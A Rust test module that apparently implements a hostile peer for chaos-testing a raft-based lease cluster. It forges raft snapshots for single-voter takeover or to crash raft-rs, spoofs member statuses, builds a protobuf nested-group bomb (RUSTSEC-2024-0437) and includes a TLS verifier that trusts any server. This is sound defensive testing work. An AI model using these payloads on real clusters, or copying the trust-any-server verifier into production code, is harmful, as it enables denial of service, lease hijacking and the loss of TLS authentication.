//! A hostile peer, for tests and the chaos lab: it crafts forged and spoofed peer traffic — a
//! snapshot that makes its target a one-voter cluster holding the lease, snapshots raft-rs
//! panics on or that do not decode, statuses in another member's name, a protobuf group bomb —
//! and sends it to a member's peer port with whatever certificate it is given (none, a
//! member's, an operator's, one from another CA).
//!
//! Each attack reports only what the target answered; whether the cluster held is judged from
//! outside (the ledger, the members' metrics and views). Nothing here is used by a real
//! deployment.

use std::time::Duration;

use protobuf::Message as _;
use raft::eraftpb::{ConfState, Message, MessageType, Snapshot};
use tonic::transport::{Channel, Endpoint};

use crate::coord::raft::fsm::FsmState;
use crate::domain::{Epoch, MemberId, MemberKind, MemberStatus, RoleName};
use crate::proto::v1::peer_client::PeerClient;
use crate::proto::v1::{
    LeaseRefresh, LeaseRefreshAnswer, LeaseRefreshRound, MemberStatusMsg, RaftBatch, RefreshOutcome,
};
use crate::tls::TlsMaterial;

/// How long one attack may take before it counts as unanswered.
const DEADLINE: Duration = Duration::from_secs(3);

/// What the target did with a forged request.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Answer {
    /// It accepted the request (the transport took it; raft may still ignore it).
    Accepted,
    /// It refused it with this gRPC code and message.
    Refused { code: tonic::Code, message: String },
    /// No connection: the TLS handshake or the TCP connect failed.
    Unreachable(String),
}

impl Answer {
    pub fn is_accepted(&self) -> bool {
        matches!(self, Answer::Accepted)
    }
}

/// The forged snapshots an attacker can send.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ForgedSnapshot {
    /// ConfState with only the target as voter, and a state machine that gives it the lease:
    /// installed, the target becomes a one-voter cluster that grants itself the lease.
    SingleVoterTakeover,
    /// A voter that is also a learner: raft-rs panics when it installs this.
    InvalidConfState,
    /// The configured voters, with state-machine bytes that do not decode.
    UndecodableState,
}

/// A raft message from raft id `from` to raft id `to` carrying `kind`, at a term and index far
/// ahead of any real cluster's so that raft would take it.
pub fn forged_snapshot(kind: ForgedSnapshot, from: u64, to: u64, voters: &[u64], target: &MemberId) -> Message {
    let (conf, data) = match kind {
        ForgedSnapshot::SingleVoterTakeover => {
            let state = FsmState { holder: Some(target.clone()), epoch: Epoch::new(1), ..FsmState::default() };
            (ConfState { voters: vec![to], ..ConfState::default() }, serde_json::to_vec(&state).unwrap_or_default())
        }
        ForgedSnapshot::InvalidConfState => {
            let state = serde_json::to_vec(&FsmState::default()).unwrap_or_default();
            (ConfState { voters: vec![to], learners: vec![to], ..ConfState::default() }, state)
        }
        ForgedSnapshot::UndecodableState => {
            (ConfState { voters: voters.to_vec(), ..ConfState::default() }, b"\xffnot a state machine".to_vec())
        }
    };
    let mut snapshot = Snapshot { data: data.into(), ..Snapshot::default() };
    snapshot.mut_metadata().set_conf_state(conf);
    snapshot.mut_metadata().index = 1_000_000;
    snapshot.mut_metadata().term = 1_000;
    let mut m = Message::default();
    m.set_msg_type(MessageType::MsgSnapshot);
    m.from = from;
    m.to = to;
    m.term = 1_000;
    m.set_snapshot(snapshot);
    m
}

/// A heartbeat from `from` to `to` followed by an unknown field that opens `depth` nested
/// groups: protobuf 2.x recurses once per group when it skips them (RUSTSEC-2024-0437).
pub fn group_bomb(from: u64, to: u64, depth: usize) -> Vec<u8> {
    let mut m = Message::default();
    m.set_msg_type(MessageType::MsgHeartbeat);
    m.from = from;
    m.to = to;
    let mut bytes = m.write_to_bytes().unwrap_or_default();
    // Field 99, wire type 3 (start group): tag (99 << 3) | 3 = 795, as a varint.
    for _ in 0..depth {
        bytes.extend_from_slice(&[0x9b, 0x06]);
    }
    bytes
}

/// A status in `member`'s name, claiming a node far ahead of the chain: believed, it makes
/// every real producer look hopelessly behind.
pub fn spoofed_status(member: &MemberId) -> MemberStatusMsg {
    MemberStatusMsg::from(&MemberStatus {
        member: member.clone(),
        kind: MemberKind::Producer,
        role: RoleName::Standby,
        priority: 1000,
        height: Some(1_000_000_000),
        healthy: true,
        epoch: None,
    })
}

/// A client of one member's peer port.
pub struct RoguePeer {
    client: Result<PeerClient<Channel>, String>,
}

impl RoguePeer {
    /// Connects to `address` (host:port) with `identity`'s certificate, or in plaintext when
    /// `identity` is `None` and `tls` is false. With `tls` and no identity, it offers TLS
    /// without a client certificate. Connection failures are kept and answered as
    /// [`Answer::Unreachable`] by every attack.
    pub async fn connect(address: &str, identity: Option<&TlsMaterial>, tls: bool) -> RoguePeer {
        crate::http::install_crypto_provider();
        let endpoint = match Endpoint::from_shared(format!("http://{address}")) {
            Ok(e) => e.connect_timeout(DEADLINE).timeout(DEADLINE),
            Err(e) => return RoguePeer { client: Err(e.to_string()) },
        };
        let channel = match (identity, tls) {
            (Some(material), _) => match crate::tls::client_config(material, None) {
                Ok(config) => endpoint.connect_with_connector(crate::tls::TlsConnector::new(config)).await,
                Err(e) => return RoguePeer { client: Err(e.to_string()) },
            },
            (None, true) => endpoint.connect_with_connector(crate::tls::TlsConnector::new(anonymous_tls())).await,
            (None, false) => endpoint.connect().await,
        };
        RoguePeer { client: channel.map(PeerClient::new).map_err(|e| crate::http::error_chain(&e)) }
    }

    fn answer<T>(result: Result<tonic::Response<T>, tonic::Status>) -> Answer {
        match result {
            Ok(_) => Answer::Accepted,
            // An answer of the service itself.
            Err(status)
                if matches!(
                    status.code(),
                    tonic::Code::PermissionDenied
                        | tonic::Code::InvalidArgument
                        | tonic::Code::FailedPrecondition
                        | tonic::Code::Unauthenticated
                ) =>
            {
                Answer::Refused { code: status.code(), message: status.message().to_string() }
            }
            // Anything else is a connection that never carried the request: a TLS 1.3 server
            // refuses a client certificate after the client has finished its side of the
            // handshake, and plaintext HTTP/2 to a TLS port is a protocol error.
            Err(status) => Answer::Unreachable(crate::http::error_chain(&status)),
        }
    }

    /// Sends raw message bytes in one batch claiming to come from raft id `from`.
    pub async fn send_bytes(&self, from: u64, messages: Vec<Vec<u8>>) -> Answer {
        let mut client = match &self.client {
            Ok(c) => c.clone(),
            Err(e) => return Answer::Unreachable(e.clone()),
        };
        RoguePeer::answer(client.raft(RaftBatch { from, messages }).await)
    }

    /// Sends `message` in a batch claiming to come from raft id `from`.
    pub async fn send(&self, from: u64, message: &Message) -> Answer {
        match message.write_to_bytes() {
            Ok(bytes) => self.send_bytes(from, vec![bytes]).await,
            Err(e) => Answer::Unreachable(format!("cannot encode the forged message: {e}")),
        }
    }

    /// Publishes `status` to the target.
    pub async fn publish(&self, status: MemberStatusMsg) -> Answer {
        let mut client = match &self.client {
            Ok(c) => c.clone(),
            Err(e) => return Answer::Unreachable(e.clone()),
        };
        RoguePeer::answer(client.publish_status(status).await)
    }

    /// Publishes `statuses` on one status stream; the target's answer ends it.
    pub async fn publish_on_stream(&self, statuses: Vec<MemberStatusMsg>) -> Answer {
        let mut client = match &self.client {
            Ok(c) => c.clone(),
            Err(e) => return Answer::Unreachable(e.clone()),
        };
        match tokio::time::timeout(DEADLINE, client.status_stream(tokio_stream::iter(statuses))).await {
            Err(_) => Answer::Unreachable(format!("no answer on the status stream within {DEADLINE:?}")),
            Ok(result) => RoguePeer::answer(result),
        }
    }

    /// Asks the target, as raft leader, to refresh the lease `refresh` names.
    pub async fn refresh_lease(&self, refresh: LeaseRefresh) -> Answer {
        let mut client = match &self.client {
            Ok(c) => c.clone(),
            Err(e) => return Answer::Unreachable(e.clone()),
        };
        RoguePeer::answer(client.refresh_lease(refresh).await)
    }

    /// Sends `refresh` as the first ask on a refresh stream and reads the one answer: a
    /// refusal by the leader's rules comes as FAILED_PRECONDITION with the reason, as from a
    /// call; a stream the target ends comes with its status.
    pub async fn refresh_on_stream(&self, refresh: LeaseRefresh) -> Answer {
        let mut client = match &self.client {
            Ok(c) => c.clone(),
            Err(e) => return Answer::Unreachable(e.clone()),
        };
        let ask = LeaseRefresh { seq: 1, ..refresh };
        let exchange = async {
            let mut answers = client.refresh_stream(tokio_stream::once(ask)).await?.into_inner();
            match answers.message().await? {
                Some(answer) => Ok(answer),
                None => Err(tonic::Status::unavailable("the target ended the refresh stream without an answer")),
            }
        };
        match tokio::time::timeout(DEADLINE, exchange).await {
            Err(_) => Answer::Unreachable(format!("no answer on the refresh stream within {DEADLINE:?}")),
            Ok(Err(status)) => RoguePeer::answer::<()>(Err(status)),
            Ok(Ok(answer)) => refresh_answer(answer),
        }
    }

    /// Sends `asks` as the first round on a round stream and reads the answer to the first
    /// ask, as [`Self::refresh_on_stream`] does.
    pub async fn refresh_in_round(&self, asks: Vec<LeaseRefresh>) -> Answer {
        let mut client = match &self.client {
            Ok(c) => c.clone(),
            Err(e) => return Answer::Unreachable(e.clone()),
        };
        let round = LeaseRefreshRound { seq: 1, asks };
        let exchange = async {
            let mut answers = client.refresh_round_stream(tokio_stream::once(round)).await?.into_inner();
            match answers.message().await? {
                Some(answer) => Ok(answer),
                None => Err(tonic::Status::unavailable("the target ended the round stream without an answer")),
            }
        };
        match tokio::time::timeout(DEADLINE, exchange).await {
            Err(_) => Answer::Unreachable(format!("no answer on the round stream within {DEADLINE:?}")),
            Ok(Err(status)) => RoguePeer::answer::<()>(Err(status)),
            Ok(Ok(round)) => match round.answers.into_iter().next() {
                Some(answer) => refresh_answer(answer),
                None => Answer::Unreachable("the target answered the round with no answer".into()),
            },
        }
    }
}

/// An answer on a refresh stream as a call's would be: a refusal by the leader's rules as
/// FAILED_PRECONDITION with the reason.
fn refresh_answer(answer: LeaseRefreshAnswer) -> Answer {
    match RefreshOutcome::try_from(answer.outcome) {
        Ok(RefreshOutcome::Refreshed) => Answer::Accepted,
        Ok(RefreshOutcome::Refused) => {
            Answer::Refused { code: tonic::Code::FailedPrecondition, message: answer.reason }
        }
        _ => Answer::Unreachable(format!("the refresh failed at the target: {}", answer.reason)),
    }
}

/// TLS without a client certificate, trusting any server: what an attacker without the
/// cluster's keys can do.
fn anonymous_tls() -> rustls::ClientConfig {
    let mut config =
        rustls::ClientConfig::builder_with_provider(std::sync::Arc::new(rustls::crypto::ring::default_provider()))
            .with_safe_default_protocol_versions()
            .unwrap_or_else(|_| rustls::ClientConfig::builder())
            .dangerous()
            .with_custom_certificate_verifier(std::sync::Arc::new(TrustsAnyServer))
            .with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    config
}

#[derive(Debug)]
struct TrustsAnyServer;

impl rustls::client::danger::ServerCertVerifier for TrustsAnyServer {
    fn verify_server_cert(
        &self,
        _: &rustls::pki_types::CertificateDer<'_>,
        _: &[rustls::pki_types::CertificateDer<'_>],
        _: &rustls::pki_types::ServerName<'_>,
        _: &[u8],
        _: rustls::pki_types::UnixTime,
    ) -> Result<rustls::client::danger::ServerCertVerified, rustls::Error> {
        Ok(rustls::client::danger::ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &rustls::pki_types::CertificateDer<'_>,
        _: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        Ok(rustls::client::danger::HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &rustls::pki_types::CertificateDer<'_>,
        _: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        Ok(rustls::client::danger::HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
        rustls::crypto::ring::default_provider().signature_verification_algorithms.supported_schemes()
    }
}
